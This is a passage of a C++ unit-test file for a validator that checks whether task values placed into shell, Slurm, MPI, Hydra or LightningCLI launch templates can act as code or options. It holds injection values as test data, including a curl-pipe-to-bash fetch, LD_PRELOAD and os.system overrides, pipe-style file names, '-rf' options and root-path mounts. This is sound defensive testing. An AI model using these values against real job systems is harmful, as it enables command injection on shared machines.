    EXPECT_TRUE(refuses(placement(task(form)), "a evil.py")) << form;
  EXPECT_FALSE(refuses(placement(task("echo \"name: %X%\" > meta.yaml")), "resnet50 lr=0.1 (baseline)"));
}

// Code that builds a data file (jq, yq, python -c) keyed by a command:
// the tool pastes the value into a shell command, so it is one plain word.
TEST(ValueSinks, CodeThatBuildsACommandKeyTakesOneWord) {
  for (const char* form : {"jq -n --arg n \"%X%\" '{command: (\"python3 t.py --name \" + $n)}' > launch.json",
                           "jq -n --arg n \"%X%\" '{\"run\": {\"cmd\": $n}}' > launch.yaml",
                           "NAME=\"%X%\" yq -i '.command = \"python3 t.py --name \" + strenv(NAME)' launch.yaml",
                           "export NAME=\"%X%\"\nyq -i '.steps[0].run |= strenv(NAME)' ci.yml",
                           "cat > launch.tmpl.yaml <<'EOF'\ncommand: python3 t.py --name ${NAME}\nEOF\nexport NAME=\"%X%\"\n"
                           "envsubst < launch.tmpl.yaml > launch.yaml"})
    EXPECT_TRUE(refuses(placement(task(form)), "a evil.py")) << form;
  EXPECT_FALSE(refuses(placement(task("cat > meta.tmpl.yaml <<'EOF'\nname: ${NAME}\nEOF\nexport NAME=\"%X%\"\n"
                                      "envsubst < meta.tmpl.yaml > meta.yaml")),
                       "resnet50 lr=0.1 (baseline)"));
  for (const char* form : {"jq -n --arg n \"%X%\" '{name: $n, tags: [\"a\"]}' > meta.json",
                           "NAME=\"%X%\" yq -i '.name = strenv(NAME)' meta.yaml",
                           "jq -n --arg n \"%X%\" '{name: $n} | select(.x == 1)' > meta.json"})
    EXPECT_FALSE(refuses(placement(task(form)), "resnet50 lr=0.1 (baseline)")) << form;
}

// Input descriptors in every spelling: read -u3, -ru 3, -u "$fd" of exec
// {fd}<F, copies (4<&3) and read-write (4<>F), <&3 inside $(...), and the
// script's input that exec sets, which a later shell reads as its program.
TEST(ValueSinks, SeventyEighthReview) {
  const std::string write = "echo \"python3 train.py --run-name '%X%'\" > steps.txt\n";
  for (const char* reader : {"exec 3< steps.txt\nwhile read -r -u3 step; do eval \"$step\"; done",
                             "exec 3< steps.txt\nwhile read -ru 3 step; do eval \"$step\"; done",
                             "exec {fd}< steps.txt\nwhile read -r -u \"$fd\" step; do eval \"$step\"; done",
                             "exec {fd}< steps.txt\nread -r -u ${fd} step\neval \"$step\"",
                             "exec 3< steps.txt\nexec 4<&3\nread -r -u 4 s\neval \"$s\"",
                             "exec 4<> steps.txt\nread -r -u4 s\neval \"$s\"",
                             "exec 3< steps.txt\nmapfile -t -u3 STEPS\neval \"${STEPS[0]}\"",
                             "exec 3< steps.txt\nSTEPS=$(cat <&3)\neval \"$STEPS\"",
                             "exec 3< steps.txt\nSTEPS=$(cat 0<&3)\neval \"$STEPS\"",
                             "exec < steps.txt\nbash", "exec 0<steps.txt\nsh"})
    EXPECT_FALSE(rules(task(write + reader)).empty()) << reader;
  EXPECT_TRUE(rules(task(write + "exec 3< steps.txt\nread -r -u3 step\necho \"$step\"")).empty());
  // A value read back into an unquoted argument is still words.
  EXPECT_TRUE(refuses(placement(task("echo \"%X%\" > lr.txt\nexec 3< lr.txt\nread -r -u3 LR\npython3 train.py --lr $LR")),
                      "0.1 --resume-from=/tmp/evil.ckpt"));
  EXPECT_TRUE(refuses(placement(task("echo \"%X%\" > lr.txt\nexec 3< lr.txt\nread -r -u3 LR\npython3 train.py --lr $LR")),
                      "0.1 1e-3"));
  EXPECT_FALSE(refuses(placement(task("echo \"%X%\" > lr.txt\nexec 3< lr.txt\nread -r -u3 LR\npython3 train.py --lr \"$LR\"")),
                       "0.1 1e3"));
}

// |words splits a value into a script's arguments, only after the script.
std::string words_at(std::string form) {
  const auto at = form.find("%W%");
  return form.replace(at, 3, "${CLEARML_TASK.hyperparams.Args.extra.value|words}");
}
TEST(ValueSinks, WordListsStandOnlyAmongAScriptsArguments) {
  for (const char* form : {"python3 train.py %W%", "torchrun --nproc_per_node 4 train.py %W% > log",
                           "bash run.sh %W%", "./run.sh %W%",
                           "srun --ntasks=2 /opt/x/train.py --epochs 3 %W%", "accelerate launch t.py %W%",
                           "python3 -m torch.distributed.run --nproc_per_node=8 train.py %W%",
                           "python3 -m accelerate.commands.launch --num_processes=2 t.py %W%",
                           // (attack109 fr-01) a launcher array the template writes out
                           "L=(torchrun --standalone --nproc_per_node 4)\n\"${L[@]}\" train.py %W%"}) {
    const auto body = words_at(form);
    EXPECT_TRUE(rules(body + "\n").empty()) << form;
  }
  for (const char* form : {"python3 %W%", "python3 -c 'import sys' %W%", "srun %W% python3 t.py", "find . %W%",
                           "env %W% python3 t.py", "timeout 10 %W%", "X=%W% python3 t.py", "echo \"%W%\"",
                           "python3 t.py \"$(echo %W%)\"", "f() { python3 t.py \"$@\"; }\nf %W%", "%W% x",
                           "xargs %W%", "cat > launch.sh <<'EOF'\nexec srun \"$@\"\nEOF\nbash launch.sh %W%",
                           // An interpreter named by its path has options of its own; a module may be a runner.
                           "/usr/bin/python3 %W%", "./venv/bin/torchrun --nproc_per_node=1 %W%",
                           "python3 -m cProfile -s cumtime %W%", "python3 -m torch.distributed.run --nproc_per_node=1 %W%",
                           "srun python3 -m pkg.train %W%", "L=(python3)\n\"${L[@]}\" %W%",
                           "L=(torchrun -x)\nL=(bash -c)\n\"${L[@]}\" %W% t.py"}) {
    const auto body = words_at(form);
    EXPECT_TRUE(refused(body + "\n", "words-position")) << form;
  }
  // An array of the list alone, mentioned only whole after a script, is the
  // script's arguments too (fr 87); mentioned anywhere else, or holding
  // another value, each word is a value that starts no option.
  for (const char* form : {"A=( %W% )\nsrun torchrun --nnodes=2 train.py --seed 1 \"${A[@]}\"",
                           "A=(%W%)\npython3 train.py \"${A[@]}\"\npython3 eval.py \"${A[@]}\""}) {
    const auto p = placement(words_at(form) + "\n");
    EXPECT_TRUE(p.option_words.script_arguments) << form;
    EXPECT_FALSE(refuses(p, "--amp")) << form;
    // (Each element whole: a word of the list may hold a blank; attack 207.)
    EXPECT_FALSE(refuses(p, "resnet baseline")) << form;
  }
  for (const char* form : {"A=(%W%)\npython3 train.py ${A[@]}", "A=(%W%)\nfor g in \"${A[@]}\"; do python3 t.py $g; done",
                           "A=(%W%)\nB=${A[1]}\npython3 t.py $B"})
    EXPECT_TRUE(refuses(placement(words_at(form) + "\n"), "resnet baseline")) << form;
  EXPECT_FALSE(refuses(placement(words_at("A=(%W%)\nfor g in \"${A[@]}\"; do python3 t.py \"$g\"; done") + "\n"), "resnet baseline"));
  for (const char* form : {"A=(%W%)\npython3 \"${A[@]}\"", "A=(%W%)\npython3 train.py \"${A[@]}\"\necho \"${A[@]}\"",
                           "A=(%W%)\npython3 train.py \"${A[@]}\"\nA+=(x)", "A=(%W% \"$HOME\")\npython3 train.py \"${A[@]}\"",
                           "A=(%W%)\npython3 train.py \"${A[@]}\" # A", "A=(%W%)\npython3 train.py ${A[@]}"}) {
    const auto p = placement(words_at(form) + "\n");
    EXPECT_FALSE(p.option_words.script_arguments) << form;
    EXPECT_TRUE(refuses(p, "--amp")) << form;
  }
}

// Readers behind a descriptor (any stage of a process substitution),
// another process's descriptor, python -i, a launcher's '-', #SBATCH
// --uid/--gid/--wrap, LightningCLI options, servers that get the job's keys.
TEST(ValueSinks, SeventyNinthReview) {
  for (const char* form : {"exec 3> >(xargs -r git clone --quiet)\necho \"%X%\" >&3",
                           "exec 5> >(tee -a job.log | bash); echo \"%X%\" >&5",
                           "exec > >(tee -a job.log | bash)\necho \"%X%\"",
                           "exec {log}> >(tee -a job.log | bash); echo \"%X%\" >&$log",
                           "coproc HELPER { bash; }\necho \"%X%\" > \"/proc/$HELPER_PID/fd/0\"",
                           "echo \"%X%\" | python3 -i train.py", "python3 -ui train.py <<< \"%X%\"",
                           "echo \"%X%\" | torchrun --nproc_per_node=1 -",
                           "echo \"%X%\" | python3 -m torch.distributed.run -"})
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  for (const char* form : {"exec > >(tee -a job.log)\necho \"%X%\"", "exec 3> >(logger -t job)\necho \"%X%\" >&3",
                           "echo \"%X%\" | python3 -u train.py", "echo \"%X%\" | perl -ne print",
                           "echo \"%X%\" | python3 -W ignore train.py"})
    EXPECT_TRUE(rules(task(form)).empty()) << form;
  for (const char* line : {"#SBATCH --uid=%X%", "#SBATCH --gid %X%", "#SBATCH --ui=%X%"})
    EXPECT_TRUE(refused(task(std::string(line) + "\necho hi"), "value-chooses-account")) << line;
  EXPECT_TRUE(refused(task("#SBATCH --wrap=%X%\necho hi"), "value-parsed-as-code"));
  for (const char* form : {"python3 main.py fit --model=%X% --trainer.max_epochs=10",
                           "srun python3 main.py fit --optimizer %X%",
                           "M=\"%X%\"\nsrun python3 main.py fit --model \"$M\"",
                           "cat > config.yaml <<EOT\nmodel: %X%\nEOT\nsrun python3 main.py fit --config config.yaml"}) {
    const auto p = placement(task(form));
    EXPECT_TRUE(refuses(p, "os.system")) << form;
    EXPECT_TRUE(refuses(p, "{class_path: os.system}")) << form;
    // Round 110: YAML's escapes, blanks and any letter spell a name too.
    for (const char* name : {"class_path: \"os.sys\\x74em\"", "class_path: \"\\x6f\\x73\\x2esystem\"",
                             "class_path:\tos.system", "class_path: |\n  os.system", "m\xc3\xa9.system"})
      EXPECT_TRUE(refuses(p, name)) << form << ": " << name;
    for (const char* ok : {"MyModel", "0.001", "/data/train.json", "resnet50", "model.ckpt"})
      EXPECT_FALSE(refuses(p, ok)) << form << ": " << ok;
  }
  EXPECT_FALSE(refuses(placement(task("python3 train.py --model=%X%")), "torchvision.resnet50"));
  // After a '/' of the template's in its argument a value names no Python
  // object (fr hunt 92); before one, or with none, it may.
  for (const char* form : {"python3 main.py fit --trainer.default_root_dir \"$OUT_ROOT/%X%\"",
                           "python3 main.py fit --trainer.default_root_dir=runs/%X%"})
    EXPECT_FALSE(refuses(placement(task(form)), "resnet50.a1_in1k")) << form;
  // There it is a path jsonargparse may read as the option's config (attack 226).
  EXPECT_TRUE(refuses(placement(task("python3 main.py fit --model=configs/model/%X%.yaml")), "../../../evil/model"));
  for (const char* form : {"python3 main.py fit --model \"run_%X%\"", "python3 main.py fit --model=%X%/x",
                           "R=\"%X%\"\npython3 main.py fit --model \"$R\" --trainer.default_root_dir \"/o/$R\""})
    EXPECT_TRUE(refuses(placement(task(form)), "os.system")) << form;
  // A value naming LightningCLI's config file names the classes it imports.
  for (const char* form : {"python3 main.py fit --config %X%", "srun python3 main.py fit --config=\"%X%\"",
                           "python3 main.py test -c %X%"}) {
    const auto p = placement(task(form));
    EXPECT_TRUE(refuses(p, "/tmp/evil.yaml")) << form;
    EXPECT_TRUE(refuses(p, "../evil.yaml")) << form;
    EXPECT_FALSE(refuses(p, "configs/vit.yaml")) << form;
  }
  for (const char* variable : {"COMET_URL_OVERRIDE", "OPENAI_API_BASE", "GITHUB_API_URL", "LANGFUSE_HOST", "RAY_ADDRESS",
                               "JAX_COORDINATOR_ADDRESS", "HOROVOD_GLOO_RENDEZVOUS_ADDR", "TF_CONFIG",
                               "SVN_SSH", "HGEDITOR", "PODMAN_USERNS"})
    EXPECT_FALSE(rules(task(std::string("export ") + variable + "=%X%")).empty()) << variable;
}

// ${NAME//[^A-Za-z0-9]/_} unquoted is one word whatever the value: only
// the set's characters and the replacement's remain. A set or replacement
// holding a blank, a glob or a wide range does not make it so.
TEST(ValueSinks, AReplacementKeepingWordCharactersSplitsNothing) {
  for (const char* use : {"mkdir -p runs/${N//[^A-Za-z0-9]/_}", "python3 t.py --tag=${N//[!a-z0-9._]/-}"}) {
    const auto p = placement(task(std::string("N=\"%X%\"\n") + use));
    EXPECT_FALSE(refuses(p, "resnet50 lr=0.1 (baseline) *")) << use;
  }
  for (const char* use : {"mkdir runs/${N//[^a-z ]/_}", "mkdir runs/${N//[^a-z]/*}", "mkdir runs/${N//[^%-@]/_}",
                          "IFS=x\nmkdir runs/${N//[^a-z]/_}", "mkdir runs/${N//[^a/b]/_}",
                          // (Alone in its word, an empty value makes no word.)
                          "python3 t.py --tag ${N//[^a-z]/_} --lr 1"})
    EXPECT_TRUE(refuses(placement(task(std::string("N=\"%X%\"\n") + use)), "a b")) << use;
  // (Where it begins an argument, what it keeps may still start with '-'.)
  EXPECT_TRUE(refuses(placement(task("N=\"%X%\"\npython3 t.py ${N//[^a-z-]/}")), "-rf"));
}

// mapfile's elements are lines: blanks stay inside one argument; a line
// break (kept by |raw) would make another; -d or a rewrite splits elsewhere.
TEST(ValueSinks, MapfileElementsAreLines) {
  const auto p = placement(task("mapfile -t EXTRA <<< \"%X%\"\npython3 train.py \"${EXTRA[@]}\""));
  EXPECT_FALSE(refuses(p, "resnet50 baseline (lr 0.1)"));
  EXPECT_TRUE(refuses(p, "-rf"));
  EXPECT_TRUE(p.context.split_lines);
  auto raw = placement("#!/bin/bash\nmapfile -t A <<< \"${CLEARML_TASK.name|raw}\"\npython3 t.py \"${A[@]}\"\n");
  EXPECT_TRUE(refuses(raw, "a\n-x"));
  for (const char* form : {"mapfile -t -d , EXTRA <<< \"%X%\"\npython3 train.py \"${EXTRA[@]}\"",
                           "read -ra EXTRA <<< \"%X%\"\npython3 train.py \"${EXTRA[@]}\""})
    EXPECT_TRUE(refuses(placement(task(form)), "resnet50 baseline")) << form;
}

// A whole word ':' on a launcher's line starts another component; a
// python script's argument may be a Hydra override of Hydra's own settings.
TEST(ValueSinks, EightiethReview) {
  for (const char* form : {"srun python3 convert.py \"%X%\" out.pt", "mpirun -np 4 ./app %X%", "A=\"%X%\"\nsrun ./app \"$A\"",
                           // Launchers that hand their arguments to mpirun (82nd review).
                           "ibrun python3 train.py %X%", "horovodrun -np 4 python3 train.py --run-tag %X% --epochs 90",
                           "deepspeed --launcher openmpi train.py %X%", "python3 -m horovod.runner -np 2 python3 t.py %X%",
                           "mpiexec.slurm python3 t.py %X%", "prun -n 2 ./app %X%",
                           // A launcher named at run time may be srun (85th review).
                           "SRUN=$(command -v srun)\n\"$SRUN\" python3 t.py %X%", "\"$(which srun)\" ./app %X%"}) {
    const auto p = placement(task(form));
    EXPECT_TRUE(refuses(p, ":")) << form;
    EXPECT_FALSE(refuses(p, "a:b")) << form;
  }
  EXPECT_FALSE(placement(task("srun --container-mounts=\"/d/%X%:/data\" true")).roles.has(sg::render::ElementRole::LaunchWord));
  // (attack160) find reads the words of its -exec clause up to a ';' or
  // '+' word: a value word there would end the clause, and the words after
  // it would be find's own (-exec sh -c CODE).
  for (const char* form : {"find d -exec python3 pre.py %X% {} \\;", "find d -name '*.json' -execdir ./run.sh \"%X%\" {} +",
                           "timeout 60 find d -ok cp %X% {} \\;", "srun find . -okdir cp {} %X% ';'",
                           "fd -e py -x python3 {} %X%", "fdfind -X echo \"%X%\""}) {
    const auto p = placement(task(form));
    EXPECT_TRUE(refuses(p, ";")) << form;
    EXPECT_TRUE(refuses(p, "+")) << form;
    EXPECT_FALSE(refuses(p, "a;b")) << form;
    EXPECT_FALSE(refuses(p, "fast")) << form;
  }
  EXPECT_TRUE(placement(words_at("find d -exec python3 pre.py %W% {} \\;")).roles.has(sg::render::ElementRole::FindClauseWord));
  // (attack161) sudo -s/-i joins the command's words into a line for a
  // shell, escaping every character but letters, digits, _ - and $.
  for (const char* form : {"sudo -E -s python3 t.py --name \"%X%\"", "sudo -u nobody -i python3 t.py %X%",
                           "S=(sudo --login)\n\"${S[@]}\" ./run.sh \"%X%\"", "sudo -iu alice ./run.sh %X%",
                           "timeout 5 sudo -s ./run.sh \"%X%\""}) {
    const auto p = placement(task(form));
    EXPECT_TRUE(refuses(p, "$RUN_NOTE")) << form;
    EXPECT_FALSE(refuses(p, "my run (v2), it's fine")) << form;
  }
  EXPECT_FALSE(placement(task("sudo -E python3 t.py \"%X%\"")).roles.has(sg::render::ElementRole::ShellJoinedWord));
  EXPECT_FALSE(placement(task("find d -name %X% -exec cp {} . \\;")).roles.has(sg::render::ElementRole::FindClauseWord));
  for (const char* form : {"python3 train.py %X%", "srun python3 train.py \"%X%\"", "torchrun train.py model.%X%"}) {
    const auto p = placement(task(form));
    for (const char* bad : {"hydra.job.env_set.LD_PRELOAD=/x.so", "_target_=os.system", "x={a:1}"})
      EXPECT_TRUE(refuses(p, bad)) << form << ": " << bad;
    EXPECT_FALSE(refuses(p, "lr=0.1")) << form;
  }
  // Hydra's and absl's files of configuration name code.
  for (const char* form : {"python3 train.py --config-dir %X%", "python3 train.py --experimental-rerun=%X%",
                           "python3 train.py --flagfile %X%"})
    EXPECT_TRUE(refuses(placement(task(form)), "/tmp/evil")) << form;
  // MPLBACKEND takes a backend's name, not module://NAME (an import).
  EXPECT_TRUE(rules(task("export MPLBACKEND=%X%")).empty());
  EXPECT_TRUE(refuses(placement(task("export MPLBACKEND=%X%")), "module://evil"));
}

// A shell script the template writes gets the words it is run with as its
// positional parameters, whether bash runs it or it runs by its path (its
// #! line names a shell, or it has none); a python one does not forward.
TEST(ValueSinks, WrittenScriptsTakeTheirArguments) {
  const std::string launch = "cat > launch.sh <<'EOF'\n#!/bin/bash\nexec srun \"$@\"\nEOF\nchmod +x launch.sh\n";
  for (const char* run : {"bash launch.sh \"%X%\"", "./launch.sh \"%X%\"", "srun ./launch.sh \"%X%\"",
                          "sh ./launch.sh --verbose \"%X%\""})
    EXPECT_TRUE(refused(task(launch + run), "placeholder-command")) << run;
  for (const char* shebang : {"#!/usr/bin/env bash", "#!/bin/sh -e", "#!/usr/bin/env -S bash -e"}) {
    const auto body = "cat > go <<'EOF'\n" + std::string(shebang) + "\n\"$1\" --fast\nEOF\n./go \"%X%\"";
    EXPECT_TRUE(refused(task(body), "placeholder-command")) << shebang;
  }
  // Where the script puts its parameters decides: an argument stays one.
  const std::string train = "cat > train.sh <<'EOF'\n#!/bin/bash\nsrun python3 train.py --name \"$1\"\nEOF\n";
  for (const char* run : {"bash train.sh \"%X%\"", "./train.sh \"%X%\""}) {
    EXPECT_TRUE(rules(task(train + run)).empty()) << run;
    EXPECT_FALSE(refuses(placement(task(train + run)), "resnet50 lr=0.1 (baseline)")) << run;
  }
  EXPECT_TRUE(rules(task("cat > tool.py <<'EOF'\n#!/usr/bin/env python3\nimport sys\nprint(sys.argv[1])\nEOF\n"
                         "./tool.py \"%X%\""))
                  .empty());
}

// A script the template writes, however it is written, named or run, takes
// its arguments (83rd review): copies and renames of a script it wrote,
// printf/echo writers, unquoted here-documents, bash -s with its script on
// its input, find -exec, sbatch, python -m, argument parsers, awk -f.
TEST(ValueSinks, WrittenScriptsInEveryForm) {
  const std::string fwd = "cat > launch.tmp <<'EOF'\n#!/bin/bash\nexec \"$@\"\nEOF\n";
  for (const std::string& form :
       {fwd + "mv launch.tmp launch.sh\nbash launch.sh \"%X%\"", fwd + "cp launch.tmp launch.sh\n./launch.sh \"%X%\"",
        fwd + "install -m 755 launch.tmp launch.sh\n./launch.sh \"%X%\"",
        fwd + "dd if=launch.tmp of=launch.sh status=none\nbash launch.sh \"%X%\"",
        fwd + "ln -sf launch.tmp launch.sh\nbash launch.sh \"%X%\"",
        std::string("cat <<'EOF' | tee launch.sh >/dev/null\nexec \"$@\"\nEOF\nbash launch.sh \"%X%\""),
        std::string("printf '#!/bin/bash\\nexec \"$@\"\\n' > launch.sh\nbash launch.sh \"%X%\""),
        std::string("{ echo '#!/bin/bash'; echo 'exec \"$@\"'; } > launch.sh\nbash launch.sh \"%X%\""),
        std::string("cat > launch.sh <<EOF\nexec \"\\$@\"\nEOF\nbash launch.sh \"%X%\""),
        std::string("bash -s -- \"%X%\" <<'EOF'\nexec \"$@\"\nEOF"),
        std::string("cat > launch.sh <<'EOF'\nexec \"$@\"\nEOF\nsrun bash -s -- \"%X%\" < launch.sh"),
        std::string("curl -s https://example.org/x.sh | bash -s -- \"%X%\""),
        fwd + "find . -name launch.tmp -exec bash {} \"%X%\" \\;",
        std::string("cat > step.sbatch <<'EOF'\n#!/bin/bash\nsrun \"$@\"\nEOF\nsbatch --wait step.sbatch \"%X%\""),
        std::string("cat > launcher.py <<'EOF'\nimport os, sys\nos.system(sys.argv[1])\nEOF\npython3 -m launcher \"%X%\""),
        std::string("cat > l.py <<'EOF'\nimport argparse, subprocess\na = argparse.ArgumentParser().parse_args()\n"
                    "subprocess.run(a, shell=True)\nEOF\npython3 l.py --extra=\"%X%\""),
        std::string("cat > run.awk <<'EOF'\nBEGIN { system(ARGV[1]) }\nEOF\nawk -f run.awk \"%X%\""),
        std::string("cat > run.awk <<'EOF'\n{ system($0) }\nEOF\necho \"%X%\" | awk -f run.awk"),
        // 84th review: written by inline code, named at run time, read from
        // /dev/stdin, a makefile's #! line, a name split by a backslash-newline.
        std::string("python3 - <<'PY'\nopen('launch.sh', 'w').write('exec \"$@\"')\nPY\nbash launch.sh \"%X%\""),
        std::string("python3 -c 'open(\"launch.sh\", \"w\").write(\"exec $1\")'\nbash launch.sh \"%X%\""),
        fwd + "for s in launch.tmp; do bash \"$s\" \"%X%\"; done", fwd + "bash \"${L:-launch.tmp}\" \"%X%\"",
        fwd + "set -- launch.tmp\nbash \"$1\" \"%X%\"", fwd + "bash /dev/stdin \"%X%\" < launch.tmp",
        fwd + "bash launch\\\n.tmp \"%X%\"",
        std::string("cat > t.mk <<'EOF'\n#!/usr/bin/make -f\nt:\n\tpython3 t.py --lr $(LR)\nEOF\n./t.mk t LR=\"%X%\""),
        std::string("cat > l.jl <<'EOF'\nrun(Cmd(ARGS))\nEOF\njulia l.jl \"%X%\""),
        // 85th review: installed from the input.
        std::string("install -m 755 /dev/stdin launch.sh <<'EOF'\nexec srun \"$@\"\nEOF\n./launch.sh \"%X%\""),
        std::string("while read -r h; do curl -s \"$h\" | bash -s -- \"%X%\"; done <<'EOF'\nnode1\nEOF"),
        std::string("bash -euxo pipefail -s -- \"%X%\" <<'EOF'\nexec \"$@\"\nEOF"),
        std::string("cat > run.awk <<'EOF'\nBEGIN { system(ARGV[1]) }\nEOF\nawk -frun.awk \"%X%\""),
        // Words before sbatch's script that expand at run time may be no
        // option at all: the script may be any written file.
        std::string("cat > s.sbatch <<'EOF'\n#!/bin/bash\neval \"echo $1\"\nEOF\nsbatch --parsable $EXTRA s.sbatch \"%X%\""),
        std::string("cat > s.sbatch <<'EOF'\n#!/bin/bash\neval \"echo $1\"\nEOF\n"
                    "sbatch ${DEP:+--dependency=afterok:$DEP} s.sbatch \"%X%\""),
        // A written script on a shell's or sbatch's input is read as when named.
        std::string("cat > s.sbatch <<'EOF'\n#!/bin/bash\neval \"echo $X\"\nEOF\nexport X=\"%X%\"\nbash < s.sbatch"),
        std::string("cat > s.sbatch <<'EOF'\n#!/bin/bash\neval \"echo $X\"\nEOF\nexport X=\"%X%\"\nsbatch --parsable < s.sbatch")}) {
    const auto r = rules(task(form));
    EXPECT_TRUE(std::any_of(r.begin(), r.end(), [](const std::string& rule) {
      return rule == "placeholder-command" || rule == "task-value-as-code" || rule == "value-parsed-as-code";
    })) << form;
  }
  // What a script does with its arguments decides where it is read; files
  // made of the project's own files are trusted as its scripts are.
  for (const std::string& form :
       {std::string("bash -s -- \"%X%\" <<'EOF'\nsrun python3 train.py --name \"$1\"\nEOF"),
        std::string("cat > step.sbatch <<'EOF'\n#!/bin/bash\nsrun python3 train.py --name \"$1\"\nEOF\nsbatch step.sbatch \"%X%\""),
        std::string("cat > sum.awk <<'EOF'\n{ n += $2 } END { print n }\nEOF\nawk -f sum.awk \"%X%\""),
        std::string("tar xf kit.tar\nbash kit/run.sh \"%X%\""),
        std::string("mkdir -p steps\ncat > steps/10-prep.sh <<'EOF'\npython3 prep.py --name \"$1\"\nEOF\n"
                    "for s in steps/*.sh; do bash \"$s\" \"%X%\"; done"),
        std::string("sed \"s/@USER@/$USER/\" launch.sh.in > launch.sh\nbash launch.sh \"%X%\""),
        // (Second review: inline code that writes some file, a log written by
        // echo, a quoted here-document fed to tee, combined options before -s.)
        std::string("python3 - <<'PY'\nimport copy\nopen('meta.json', 'w').write('{}')\nPY\n"
                    "\"$VENV/bin/python\" t.py --name \"%X%\"\nsrun ./a.out \"%X%\""),
        std::string("LOG=$(mktemp)\necho start > \"$LOG\"\n\"$VENV/bin/python\" t.py --name \"%X%\""),
        std::string("tee run.sh >/dev/null <<'EOF'\npython3 train.py --name \"$1\"\nEOF\nbash run.sh \"%X%\""),
        std::string("bash -euxo pipefail -s -- \"%X%\" <<'EOF'\npython3 train.py --name \"$1\"\nEOF"),
        std::string("cat > train.py <<'EOF'\nimport argparse\nmodel.eval()\na = argparse.ArgumentParser().parse_args()\nEOF\n"
                    "python3 train.py --name \"%X%\""),
        // The script sbatch runs is its operand, not a written file given to -o.
        std::string("echo start > step.log\ncat > step.sbatch <<'EOF'\n#!/bin/bash\nsrun python3 t.py --name \"$1\"\n"
                    "EOF\nsbatch -o step.log step.sbatch \"%X%\""),
        std::string("cat > s.sbatch <<'EOF'\n#!/bin/bash\nsrun python3 t.py --name \"$X\"\nEOF\nexport X=\"%X%\"\nsbatch < s.sbatch")}) {
    EXPECT_TRUE(rules(task(form)).empty()) << form;
  }
  // (An unquoted $1 in a script on bash's input splits the value there.)
  EXPECT_TRUE(refuses(placement(task("cat > launch.sh <<'EOF'\nsrun python3 t.py $1\nEOF\nbash -s -- \"%X%\" < launch.sh")),
                      "0.1 --evil"));
  // sbatch reads its input when a word before the script may take it away
  // ($OPTS may be -o); a quoted --job-name="$n" cannot.
  EXPECT_TRUE(refused(task("sbatch $OPTS job.sh <<EOF\n#!/bin/bash\necho %X%\nEOF"), "value-parsed-as-code"));
  EXPECT_TRUE(rules(task("echo \"%X%\" > names.txt\n"
                         "while read -r n; do sbatch --job-name=\"$n\" job.sbatch; done < names.txt")).empty());
}

// A file of command lines the template writes runs where a program takes
// it as one: an MPMD launch's file (mpiexec -configfile, mpirun --app), and
// any program the compiler does not know (a task farm), by option or input.
TEST(ValueSinks, FilesOfCommandLinesAreCode) {
  const std::string jobs = "for c in ck/*.pt; do echo \"python3 eval.py --ckpt $c --run %X%\" >> jobs.txt; done\n";
  for (const std::string& form :
       {jobs + "ParaFly -c jobs.txt -CPU 8", jobs + "xjobs -j 4 < jobs.txt", jobs + "my_farm --tasks=jobs.txt",
        std::string("cat > mpmd.conf <<EOF\n-n 1 python3 ps.py --run %X%\nEOF\nmpiexec -configfile mpmd.conf"),
        std::string("cat > app.txt <<EOF\n-np 2 ./worker --run %X%\nEOF\nmpirun --app app.txt"),
        std::string("cat > mpmd.conf <<EOF\n-n 1 python3 ps.py --run %X%\nEOF\nmpiexec.mpich -configfile mpmd.conf")}) {
    EXPECT_TRUE(refused(task(form), "value-parsed-as-code")) << form;
  }
  // However the lines are written, and however the program gets the file
  // (second review).
  for (const char* write : {"JOB=\"python3 e.py --run %X%\"\necho \"$JOB\" >> jobs.txt",
                            "echo \"python3 e.py --run %X%\" | tee -a jobs.txt",
                            "cat >> jobs.txt <<< \"python3 e.py --run %X%\"",
                            "for c in a b; do echo python3 e.py $c %X%; done > jobs.txt",
                            "{ echo \"python3 e.py %X%\"; } > jobs.txt", "echo \"eval_model --run %X%\" >> jobs.txt",
                            "echo \"cd w && run %X%\" >> jobs.txt",
                            "echo \"OMP_NUM_THREADS=1 nice -n 5 /opt/bin/evaluate %X%\" >> jobs.txt"})
    for (const char* run : {"ParaFly -c jobs.txt", "cat jobs.txt | xjobs -j 4"})
      EXPECT_TRUE(refused(task(std::string(write) + "\n" + run), "value-parsed-as-code")) << write << "\n" << run;
  EXPECT_TRUE(rules(task("echo \"./outputs/%X%\" > paths.txt\nmy_uploader --list paths.txt")).empty());
  // eval, sbatch and salloc make a command line only as its first word.
  EXPECT_TRUE(rules(task("echo \"%X% eval 0.93\" >> results.txt\nmy_plot --results results.txt")).empty());
  EXPECT_TRUE(refused(task("echo \"eval %X%\" >> jobs.txt\nmy_farm --tasks=jobs.txt"), "value-parsed-as-code"));
  // Text that is not a command line stays data for such a program.
  EXPECT_TRUE(rules(task("echo \"run %X%\" > notes.txt\nmy_report --notes notes.txt")).empty());
  EXPECT_TRUE(rules(task("cat > hosts <<EOF\nnode1 slots=4\nEOF\nmpirun --hostfile hosts python3 t.py --run \"%X%\"")).empty());
}

// A file name starting with '|' or %pipe% is a command to Ghostscript,
// ps2pdf and perl's open (87th review).
TEST(ValueSinks, PathsAreNoPipes) {
  for (const char* form : {"gs -q -dSAFER -sDEVICE=png16m -sOutputFile=\"%X%.png\" report.pdf", "ps2pdf plots.ps \"%X%.pdf\"",
                           "cp out.pdf \"%X%\""}) {
    const auto pl = placement(task(form));
    for (const char* pipe : {"|touch x #", "%pipe%touch x", "%PIPE%id", " |touch x", "%os%/tmp/x", "a%handle%b"})
      EXPECT_TRUE(refuses(pl, pipe)) << form << " " << pipe;
    for (const char* name : {"preview 1", "run_%j", "report 100%"}) EXPECT_FALSE(refuses(pl, name)) << form << " " << name;
  }
}

// Mounts of enroot, Charliecloud, Shifter and Sarus get the host-path rule
// of --container-mounts; nsys --env-var is a comma list (88th review).
TEST(ValueSinks, MoreRunnersMountsAndLists) {
  namespace R = sg::render;
  for (const char* form : {"enroot start --rw --mount %X%:/data img python3 t.py", "enroot start -m \"%X%:/data\" img true",
                           "ch-run -b %X%:/data img -- python3 t.py", "ch-run --bind=%X%:/data img -- true",
                           "shifter --volume=%X%:/data python3 t.py", "sarus run --mount=type=bind,source=%X%,dst=/d img true"}) {
    const auto pl = placement(task(form));
    EXPECT_TRUE(pl.roles.has(R::ElementRole::MountSource) || pl.roles.has(R::ElementRole::Mount)) << form;
    for (const char* host : {"/", "/root", "/etc", "data/../../../root"}) EXPECT_TRUE(refuses(pl, host)) << form << " " << host;
    EXPECT_FALSE(refuses(pl, "datasets/imagenet")) << form;
  }
